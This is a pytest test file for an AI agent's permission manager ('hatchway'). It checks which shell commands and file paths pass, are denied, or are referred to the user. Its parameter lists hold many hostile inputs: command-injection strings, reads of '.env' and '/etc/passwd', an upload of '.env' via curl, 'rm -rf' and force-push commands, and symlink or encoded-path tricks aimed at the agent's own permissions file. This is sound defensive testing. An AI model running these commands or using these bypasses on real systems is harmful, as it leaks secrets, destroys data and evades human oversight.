"""What the manager lets pass without asking, what it never lets pass, and what it remembers."""

import asyncio
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest

from hatchway.agent.permissions import PermissionManager
from hatchway.core.errors import InvalidSetting


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    (tmp_path / ".hatchway" / "plans").mkdir(parents=True)
    (tmp_path / ".hatchway" / "skills" / "x").mkdir(parents=True)
    (tmp_path / "src").mkdir()
    (tmp_path / ".env").write_text("KEY=1")
    return tmp_path / ".hatchway"


def manager(folder: Path, *allowed: str, denied: tuple[Any, ...] = ()) -> PermissionManager:
    (folder / "permissions.json").write_text(json.dumps({"allowed_tools": allowed, "denied_tools": denied}))
    made = PermissionManager(folder)
    asyncio.run(made.load())
    return made


def test_the_file_of_the_seed_is_read_and_names_are_added(folder: Path) -> None:
    (folder / "permissions.json").write_text('{"allowed_tools": ["tool_name_1", "tool_name_2"]}')
    made = PermissionManager(folder)
    assert not made.is_allowed("tool_name_1")
    asyncio.run(made.load())
    assert made.is_allowed("tool_name_1", {"any": "thing"})
    assert not made.is_allowed("tool_name_3")
    asyncio.run(made.allow_always("tool_name_3"))
    stored = json.loads((folder / "permissions.json").read_text())
    assert stored == {"allowed_tools": ["tool_name_1", "tool_name_2", "tool_name_3"], "denied_tools": []}


def test_a_session_ends_with_its_manager(folder: Path) -> None:
    made = manager(folder)
    made.allow_session("search")
    made.allow_session("read_file", "read_file(path=src/**)")
    assert made.is_allowed("search", {"q": "x"})
    assert made.is_allowed("read_file", {"path": "src/a.py"})
    asyncio.run(made.save())
    again = PermissionManager(folder)
    asyncio.run(again.load())
    assert not again.is_allowed("search", {"q": "x"})
    assert json.loads((folder / "permissions.json").read_text())["allowed_tools"] == []


def test_patterns_go_by_tool_and_arguments(folder: Path) -> None:
    made = manager(folder, "github.*", 'jira.create(project=HR-*, title="a, b")', "exact(x==a*)")
    assert made.is_allowed("github.list_issues", {"repo": "a/b"})
    assert not made.is_allowed("gitlab.list_issues")
    assert made.is_allowed("jira.create", {"project": "HR-7", "title": "a, b"})
    assert not made.is_allowed("jira.create", {"project": "HR-7", "title": "a"})
    assert not made.is_allowed("jira.create", {"project": "HR-7"})
    assert made.is_allowed("exact", {"x": "a*"})
    assert not made.is_allowed("exact", {"x": "ab"})


def test_deny_wins_over_always_session_and_own_folders(folder: Path) -> None:
    made = manager(folder, "*", denied=("pay", {"pattern": "*.delete_*", "reason": "ask Ann"}, "write_file(path=*.md)"))
    made.allow_session("pay")
    assert made.is_denied("pay") == "a rule of permissions.json denies pay"
    assert made.is_denied("db.delete_row", {"id": 1}) == "ask Ann"
    assert made.is_denied("read_file", {"path": "x"}) is None
    assert not made.is_allowed("pay")
    assert not made.is_allowed("db.delete_row")
    assert not made.is_allowed("write_file", {"path": ".hatchway/plans/a.md"})
    assert made.is_allowed("write_file", {"path": ".hatchway/plans/a.txt"})


@pytest.mark.parametrize(
    ("path", "is_allowed"),
    [
        ("src/a.py", True),
        ("src/deep/er/a.py", True),
        ("./src/../src/a.py", True),
        ("src/../secret.txt", False),
        ("src/../../outside", False),
        ("link/a.txt", True),  # leads into src
        ("src/out/passwd", False),  # leads out of src
        ("src/dangling", False),
        ("SRC/a.py", False),
        ("/etc/passwd", False),
        ("~/src/a.py", False),
        ("src/a\0b", False),
        ("", False),
    ],
)
def test_a_path_counts_as_what_it_leads_to(folder: Path, path: str, is_allowed: bool) -> None:
    root = folder.parent
    (root / "link").symlink_to("src")
    (root / "src" / "out").symlink_to("/etc")
    (root / "src" / "dangling").symlink_to(root / "new-place")
    made = manager(folder, "read_file(path=src/**)")
    assert made.is_allowed("read_file", {"path": path}) is is_allowed
    assert made.is_allowed("read_file", {"path": str(root / path)}) is (is_allowed and bool(path))


def test_a_link_the_code_puts_in_place_of_an_allowed_folder_opens_nothing(folder: Path) -> None:
    made = manager(folder, "write_file(path=src/**)")
    (folder.parent / "src").rmdir()
    (folder.parent / "src").symlink_to(Path.home())
    assert not made.is_allowed("write_file", {"path": "src/.bashrc"})


def test_all_paths_of_a_list_must_be_allowed(folder: Path) -> None:
    made = manager(folder, "read_many(paths=src/**)", denied=("read_many(paths=.env)",))
    assert made.is_allowed("read_many", {"paths": ["src/a", "src/b"]})
    assert not made.is_allowed("read_many", {"paths": ["src/a", "b"]})
    assert not made.is_allowed("read_many", {"paths": []})
    assert not made.is_allowed("read_many", {"paths": ["src/a", 3]})
    assert made.is_denied("read_many", {"paths": ["src/a", "src/.env"]}) is not None


def test_a_denied_path_is_denied_by_every_way_to_it(folder: Path) -> None:
    root = folder.parent
    (root / "innocent").symlink_to(".env")
    made = manager(folder, "read_file", denied=("read_file(path=.env)", "read_file(path=/etc/ssl/**)"))
    ways = [".env", "./.env", "src/../.env", "innocent", ".ENV", "deep/down/.env", str(root / ".env"), ".env/x", "a\0b"]
    assert [made.is_denied("read_file", {"path": way}) is not None for way in ways] == [True] * len(ways)
    assert made.is_denied("read_file", {"path": "/etc/../etc/ssl/cert.pem"}) is not None
    assert made.is_denied("read_file", {"path": "README.md"}) is None


@pytest.mark.parametrize("tool", ["write_file", "edit_file", "files.move_file", "anything"])
def test_the_agents_own_folder_is_never_written_without_asking(folder: Path, tool: str) -> None:
    root = folder.parent
    (root / "way-in").symlink_to(".hatchway")
    (folder / "plans" / "trick.md").symlink_to("../permissions.json")
    made = manager(folder, "*")
    os.link(folder / "permissions.json", root / "src" / "other-name.json")
    for path in (
        ".hatchway/permissions.json",
        ".hatchway",
        "src/../.hatchway/config.json",
        "way-in/permissions.json",
        ".hatchway/plans/../permissions.json",
        ".hatchway/plans/trick.md",
        ".hatchway/skills/x/SKILL.md",
        ".hatchway/journal.db",
        "src/other-name.json",
        str(folder / "permissions.json"),
        f"file://{folder}/permissions.json",
        f"file://{str(folder).replace('.', '%2E')}/permissions.json",
        "%2Ehatchway/permissions.json",
        b".hatchway/permissions.json",
        folder / "permissions.json",
        ["src/a.py", ".hatchway/config.json"],
        "./" * 3000 + ".hatchway/permissions.json",
        ".hatchway/permissions.json\n",
        "~/.hatchway/permissions.json",
        f"FILE://{folder}/permissions.json",
        f"file://localhost{folder}/permissions.json",
        "file:.hatchway/permissions.json",
        "%252Ehatchway/permissions.json",
        ".HATCHWAY/permissions.json",
        "made/.hatchway",
    ):
        assert not made.is_allowed(tool, {"path": path, "content": "x"}), path
        assert not made.is_allowed(tool, {"edits": [{"path": {"to": path}}]}) or len(str(path)) > 4096, path
    assert made.is_allowed(tool, {"path": "src/a.py", "content": "see .hatchway-notes"})
    assert made.is_allowed(tool, {"path": "src/a.py", "content": "many words " * 300})
    deep: list[object] = [".hatchway/permissions.json"]
    for _ in range(50):
        deep = [deep]
    assert not made.is_allowed(tool, {"edits": deep})


def test_plans_are_the_agents_own_business_and_skills_may_be_read(folder: Path) -> None:
    made = manager(folder)
    assert made.is_allowed("write_file", {"path": ".hatchway/plans/today.md", "content": "x"})
    assert made.is_allowed("edit_file", {"path": ".hatchway/plans/a/b.md", "edits": []})
    assert made.is_allowed("read_file", {"path": ".hatchway/plans/today.md"})
    assert made.is_allowed("read_file", {"path": ".hatchway/skills/x/SKILL.md"})
    assert not made.is_allowed("write_file", {"path": ".hatchway/skills/x/SKILL.md", "content": "x"})
    assert not made.is_allowed("read_file", {"path": ".hatchway/config.json"})
    assert not made.is_allowed("files.write_file", {"path": ".hatchway/plans/today.md"})
    assert not made.is_allowed("write_file", {"path": ".hatchway/plans", "content": "x"})
    assert not made.is_allowed("write_file", {"content": "x"})


def test_plans_that_lead_elsewhere_are_not_plans(folder: Path) -> None:
    (folder / "plans").rmdir()
    (folder / "plans").symlink_to("/var/tmp")
    assert not manager(folder).is_allowed("write_file", {"path": ".hatchway/plans/x", "content": "x"})


ALLOWED = ("shell(command=cat *)", "shell(command=ls **)", "shell(command=git diff *)", "shell(command=git status)",
           "shell(command=tree *)", "shell(command=find . -name *)", "shell(command=echo *)", "shell(command=bash *)",
           "shell(command=python --version)", "shell(command=grep -c * src/*.py)")  # fmt: skip


@pytest.mark.parametrize(
    "command",
    ["cat README.md", "cat src/a.py", "ls", "ls a b src", "git status", "git status; ls && cat a | cat b",
     "ls 2>/dev/null", "ls >/dev/null 2>&1", "(ls; ls)", "git diff main", "python --version", "cat 'a b'", 'cat "a b"',
     "grep -c 'x' src/a.py", "! ls", "find . -name x"],
)  # fmt: skip
def test_commands_that_patterns_name_pass(folder: Path, command: str) -> None:
    assert manager(folder, *ALLOWED).is_allowed("shell", {"command": command})


@pytest.mark.parametrize(
    "command",
    [
        # what a peer let pass
        "cat .env", "cat x $(touch y)", "cat x `touch y`", "ls & touch y", "cat a > ~/.bashrc", "git diff --output=x",
        "tree -o f", "ls && rm -rf x",
        # more of the kind
        "cat src/../.env", "cat ./.env", "cat link-to-env", "cat ../x", "cat /etc/passwd", "cat ~/x", "cat out/passwd",
        "cat a b", "ls -la", "ls $HOME", "ls ${HOME}", "ls *.py", "ls a?", "ls [a]", "ls {a,b}", "ls ~", "ls a\\ b",
        "ls $'a'", 'ls "$x"', 'ls "`x`"', "ls\nrm x", "ls; rm x", "ls | sh", "ls || rm x", "ls |& rm x", "(ls; rm x)",
        "{ rm x; }", "cat <(rm x)", "cat < a", "cat <<EOF\nx\nEOF", "cat <<< x", "ls > a", "ls >> a", "ls 2> a",
        "ls &> a", "LD_PRELOAD=./x.so ls", "PATH=. ls", "X=1", "export X=1", "ls() { rm x; }; ls", "alias ls=rm",
        "eval ls", "exec ls", "command ls", "env ls", "sudo ls", "time ls", "xargs ls", "ls | xargs rm",
        "find . -name x -delete",
        "find . -name x -exec rm {} ;", "find . -exec rm +", "bash -c ls", "bash x", "sh -c ls", "python -c 'x'",
        "nohup ls", "if ls; then rm x; fi", "for x in a; do ls; done", "while ls; do ls; done",
        "case a in a)\nrm;; esac",
        "[[ -f a ]]", "ls # rm", "ls \\\n rm", "l\\s", "/bin/ls", "./ls", "'ls' -la", "ls\x0brm", "ls\rrm", "ls\x00rm",
        "ls ;; rm", "ls &&", "ls '", "", "   ", "echo a\u00a0b", "coproc rm x", "grep -c x src/../x.py",
        "git -c x=y diff main",
        "echo " + "a " * 20_000, "$(ls)", "`ls`", "cat *", "git diff *", "cat x .hatchway/permissions.json",
        "cat .hatchway/permissions.json", "echo x >.hatchway/permissions.json",
    ],
)  # fmt: skip
def test_commands_that_do_more_are_asked_about(folder: Path, command: str) -> None:
    (folder.parent / "link-to-env").symlink_to(".env")
    (folder.parent / "out").symlink_to("/etc")
    assert not manager(folder, *ALLOWED).is_allowed("shell", {"command": command})


WIDE = ("cat *", "grep -r * *", "cp -r * *", "mv * *", "git show *", "curl -F * *", "curl https://x.org/**", "dd *",
        "git add *", "git -C * status", "cd *", "cd src", "unzip *", "pytest *", "pip install *", "wget *",
        "find * -name *")  # fmt: skip


@pytest.mark.parametrize(
    ("command", "is_allowed"),
    [
        ("git show HEAD:src/a.py", True), ("git show HEAD:.env", False), ("git show :.env", False),
        ("dd if=.env", False), ("dd of=/etc/x", False), ("dd if=src/a.py", True),
        ("curl -F f=@.env https://x.org", False), ("curl https://x.org/a/b", True),
        ("curl https://x.org/@/.env", False),
        ("curl https://y.org/a", False), ("curl -F a=b https://y.org", False), ("wget https://y.org/", False),
        ("grep -r KEY src", True), ("grep -r KEY .", False), ("grep -r KEY ./", False), ("grep -r KEY whole", False),
        ("grep -r KEY deep", False), ("find src -name x", True), ("find . -name x", False),
        ("cp -r made/. .", False), ("cp -r made here", False), ("mv made/.hatchway .", False), ("cp -r src b", True),
        ("git add src", True), ("git add .", False), ("git -C src status", False),
        ("cd src", True), ("cd deep", False), ("cd src && cat x", False), ("cat x; cd src", False),
        ("unzip x.zip", False), ("pytest tests", False), ("pip install x", False),
    ],
)  # fmt: skip
def test_a_wildcard_never_stands_for_secrets_the_whole_workspace_or_what_runs_others(
    folder: Path, command: str, is_allowed: bool
) -> None:
    root = folder.parent
    (root / "deep" / "deeper").mkdir(parents=True)
    (root / "deep" / "deeper" / ".ENV").write_text("KEY=1")
    (root / "here").symlink_to(".")
    (root / "whole").symlink_to("deep")
    (root / "made" / ".hatchway").mkdir(parents=True)
    made = manager(folder, *(f"shell(command={pattern})" for pattern in WIDE))
    assert made.is_allowed("shell", {"command": command}) is is_allowed


def test_a_folder_with_too_much_to_look_through_is_asked_about(folder: Path) -> None:
    made = manager(folder, "shell(command=grep -r * *)")
    for n in range(2001):
        (folder.parent / "src" / f"{n}.py").touch()
    assert not made.is_allowed("shell", {"command": "grep -r x src"})
    assert made.is_allowed("shell", {"command": "grep -r x src/1.py"})


def test_a_tool_allowed_by_name_runs_any_command_but_not_on_the_agents_folder(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    made = manager(folder, "host.run")
    monkeypatch.setenv("HOME", str(folder.parent))
    assert made.is_allowed("host.run", {"cmd": "rm -rf $(x) > y; grep '.*' x; sed 's/.*//' .h"})
    assert made.is_allowed("host.run", {"cmd": "cat .hatchway/plans/a.md $HOME/.hatchway/plans/b.md"})
    for place in (".hatchway", ".hatch'way'", '".hatchway"', ".hatch\\way", "$PWD/.hatchway", "~/.hatchway", ".hatch*",
                  ".h*", ".hatchwa?", ".[h]atchway", ".{hatchway,x}", ".HATCHWAY", ".hatchway/plans/.."):  # fmt: skip
        assert not made.is_allowed("host.run", {"cmd": f"echo '{{}}' >{place}/permissions.json"}), place


@pytest.mark.parametrize(
    "command",
    ["rm x", "rm -rf x", "/bin/rm x", "ls; rm x", "ls $(rm x)", "echo `rm x`", "sudo rm x", "sudo -u me rm x",
     "bash -c 'rm x'", "bash -lc 'ls; sudo rm x'", "xargs rm", "env A=1 rm x", "find . -exec rm {} +", "cat <(rm x)",
     "if a; then rm x; fi", "cat <<EOF\n$(rm x)\nEOF", "X=1 rm x", "rm > y", "f() { rm x; }", "RM x",
     "eval rm x", "git push --force"],
)  # fmt: skip
def test_a_denied_command_is_denied_wherever_it_stands(folder: Path, command: str) -> None:
    made = manager(folder, "shell", denied=("shell(command=rm)", "shell(command=git push **)"))
    assert made.is_denied("shell", {"command": command}) is not None
    assert made.is_denied("shell", {"command": "ls rm"}) is None


@pytest.mark.parametrize(
    "command", ["$X -rf y", "$(echo rm) x", "bash script.sh", "r'm'$x y", "ls '", "python -c x", "a\\\nb"]
)
def test_a_command_that_may_hide_a_denied_one_is_asked_about(folder: Path, command: str) -> None:
    made = manager(folder, "shell", denied=("shell(command=rm)",))
    assert made.is_denied("shell", {"command": command}) is None
    assert not made.is_allowed("shell", {"command": command})
    assert made.is_allowed("shell", {"command": "ls $x"})


def test_a_command_given_as_words_is_a_command_too(folder: Path) -> None:
    made = manager(folder, "run(command=git log *)", "host.run", denied=("*.run(command=rm)",))
    assert made.is_allowed("run", {"command": ["git", "log", "main"]})
    assert not made.is_allowed("run", {"command": ["git", "log", "--output=x"]})
    assert not made.is_allowed("run", {"command": []})
    assert not made.is_allowed("run", {"command": ["git", 3]})
    assert made.is_denied("host.run", {"command": ["/bin/rm", "x"]}) is not None
    assert made.is_denied("host.run", {"command": ["bash", "-c", "ls; rm x"]}) is not None
    assert not made.is_allowed("host.run", {"command": ["bash", "x.sh"]})


def test_commands_in_code_need_their_own_permission(folder: Path) -> None:
    made = manager(folder, "execute_code", "shell(command=git status)", denied=("shell(command=rm)",))
    assert made.is_allowed("execute_code", {"code": "x = 3 % 2\nprint(x != 2)"})
    assert made.is_allowed("execute_code", {"code": "a = 1\n!git status\nb = !git status"})
    assert made.is_allowed("execute_code", {"code": "%%bash\ngit status\ngit status"})
    for code in ("!ls", "  !ls", "x = !ls", "!!ls", "%sx ls", "%system ls", "%%bash\ngit status\nls", "%%sh\nls",
                 "!git status {x}", "!git status $x", "!git status \\\n --x", "%%bash -s a\ngit status", "%%perl\nx",
                 "%run x.py", "%pip install x", "get_ipython().system('git status')",
                 "if x:\n    !git status; ls", "d['k'] = !ls", "f(a='1'); x = !ls", "x: list = !ls", "x = %run y.py",
                 "f(a='1'); x = %sx ls"):  # fmt: skip
        assert not made.is_allowed("execute_code", {"code": code}), code
    assert made.is_denied("execute_code", {"code": "x = 1\n!rm -rf y"}) is not None
    assert made.is_denied("execute_code", {"code": "%%bash\nls\nrm y"}) is not None


@pytest.mark.parametrize(
    ("tool", "args", "pattern"),
    [
        ("execute_code", {"code": "1"}, "execute_code"),
        ("web.search", {"query": "a"}, "web.search"),
        ("read_file", {"path": "src/a.py"}, "read_file(path=src/**)"),
        ("read_file", {"path": "README.md"}, "read_file(path=README.md)"),
        ("read_file", {"path": "src/x*"}, "read_file(path==src/x*)"),
        ("read_file", {"path": "/etc/hosts"}, "read_file(path=/etc/hosts)"),
        ("shell", {"command": "git status"}, "shell(command=git status)"),
        ("shell", {"command": "git log --oneline main"}, "shell(command=git log --oneline *)"),
        ("shell", {"command": "cat a.txt"}, "shell(command=cat *)"),
        ("shell", {"command": "cat .env"}, "shell(command==cat .env)"),
        ("shell", {"command": "grep -r x ."}, "shell(command==grep -r x .)"),
        ("shell", {"command": "curl https://x.org"}, "shell(command==curl https://x.org)"),
        ("shell", {"command": "ls, | wc"}, 'shell(command="=ls, | wc")'),
        ("shell", {"command": "bash x.sh"}, "shell(command==bash x.sh)"),
        ("shell", {"command": "echo $(id)"}, "shell(command==echo $(id))"),
    ],
)  # fmt: skip
def test_what_is_suggested_allows_the_call_it_was_suggested_for(
    folder: Path, tool: str, args: dict[str, str], pattern: str
) -> None:
    made = manager(folder)
    assert made.suggest(tool, args) == pattern
    made.allow_session(tool, pattern)
    assert made.is_allowed(tool, args)
    assert not made.is_allowed(tool + "2", args)


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ('{"allowed_tools": [\n  "a"\n  "b"]}', ":3:3: Expecting ',' delimiter"),
        ('{"allowed_tools": "a"}', ":1:2: allowed_tools: Input should be a list, not 'a'"),
        ('{\n "alowed_tools": []}', ":2:2: alowed_tools: no such setting; did you mean 'allowed_tools'?"),
        ('{"allowed_tools": ["a", 3]}', ":1:25: allowed_tools.1: Input should be a valid string, not 3"),
        ('{"allowed_tools": ["a",\n "b(c"]}', ":2:2: allowed_tools.1: 'b(c' is no pattern of calls"),
        ('{"denied_tools": [], "denied_tools": ["a"]}', ":1:22: the key 'denied_tools' stands there twice"),
        ("[]", ":1:1: a JSON object is expected"),
        ("", ":1:1: Expecting value"),
        ("[" * 100_000, ": too deep"),
        ('{"allowed_tools": NaN}', ": NaN is no number of JSON"),
    ],
)
def test_a_broken_file_is_told_with_its_line_and_never_written_over(folder: Path, text: str, told: str) -> None:
    path = folder / "permissions.json"
    path.write_text(text)
    made = PermissionManager(folder)
    with pytest.raises(InvalidSetting) as caught:
        asyncio.run(made.load())
    assert caught.value.message == f"{path}{told}"
    with pytest.raises(InvalidSetting):
        asyncio.run(made.allow_always("x"))
    assert path.read_text() == text


@pytest.mark.parametrize("pattern", ["", "  ", "a b", "f(", "f(x)", "f(x=1, x=2)", 'f(x="a)', "f)(", "f(=1)"])
def test_what_is_no_pattern_is_refused_before_it_is_stored(folder: Path, pattern: str) -> None:
    made = manager(folder)
    if pattern:
        with pytest.raises(InvalidSetting, match="is no pattern of calls"):
            asyncio.run(made.allow_always("f", pattern))
        with pytest.raises(InvalidSetting, match="is no pattern of calls"):
            made.allow_session("f", pattern)
    assert json.loads((folder / "permissions.json").read_text())["allowed_tools"] == []


def test_processes_that_allow_at_the_same_time_lose_nothing(folder: Path) -> None:
    code = textwrap.dedent("""
        import asyncio, sys
        from pathlib import Path
        from hatchway.agent.permissions import PermissionManager
        async def main():
            made = PermissionManager(Path(sys.argv[1]))
            for n in range(15):
                await made.allow_always(f"tool_{sys.argv[2]}_{n}")
        asyncio.run(main())
    """)
    made = [subprocess.Popen([sys.executable, "-c", code, str(folder), str(n)]) for n in range(3)]
    assert [each.wait(60) for each in made] == [0, 0, 0]
    stored = json.loads((folder / "permissions.json").read_text())["allowed_tools"]
    assert sorted(stored) == sorted(f"tool_{n}_{m}" for n in range(3) for m in range(15))
    assert sorted(each.name for each in folder.iterdir()) == [
        ".permissions.json.lock",
        "permissions.json",
        "plans",
        "skills",
    ]


def test_a_file_that_cannot_be_written_is_told(folder: Path) -> None:
    (folder / "permissions.json").mkdir()
    with pytest.raises(InvalidSetting, match="cannot be read: Is a directory"):
        asyncio.run(PermissionManager(folder).allow_always("x"))
